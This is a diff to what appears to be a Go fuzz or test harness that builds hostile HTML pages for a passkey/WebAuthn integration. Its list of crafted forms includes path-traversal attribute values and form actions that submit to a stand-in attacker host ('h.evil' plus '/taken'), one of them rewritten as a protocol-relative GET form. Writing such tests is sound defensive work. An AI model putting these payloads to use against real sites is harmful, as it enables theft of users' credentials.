@@ -85,7 +85,7 @@ func anyMarkup(random *rand.Rand, attributes, values []string) string {
 		for range random.IntN(3) {
 			fmt.Fprintf(&b, `<input name="%s"%s>`, pick([]string{"action", "data", "callbackUrl", "elements", "dataset", "submit", "method", "querySelector"}), attribute("value"))
 		}
-		fmt.Fprintf(&b, `<p%s></p><button%s%s%s>x</button></%s>`, attribute(pick(attributes)), attribute("value"), attribute("name"), attribute("formaction"), tag)
+		fmt.Fprintf(&b, `<p%s></p><button%s%s>x</button></%s>`, attribute(pick(attributes)), attribute("value"), attribute("name"), tag)
 	}
 	return b.String()
 }
@@ -134,7 +134,7 @@ func (h *hostilePage) known(reader *webauthn.Credential) []string {
 		`<form data-latchkey-passkey="../../upload?"><button>x</button></form>`,
 		`<form data-latchkey-passkey-add="../../upload#"><button>x</button></form>`,
 		`<form data-latchkey-passkey="passkey" action="` + h.evil + `/taken"><button>x</button></form>`,
-		`<form data-latchkey-passkey="passkey"><button formaction="` + h.evil + `/taken">x</button></form>`,
+		`<form data-latchkey-passkey="passkey" method="get" target="_blank" action="//` + strings.TrimPrefix(h.evil, "http://") + `"><button>x</button></form>`,
 		`<p data-latchkey-passkey-unknown></p>`,
 		`<p data-latchkey-passkeys="` + html.EscapeString(values[len(values)-2]) + `"></p>`,
 		`<p data-latchkey-passkeys="` + html.EscapeString(values[len(values)-1]) + `"></p>`,
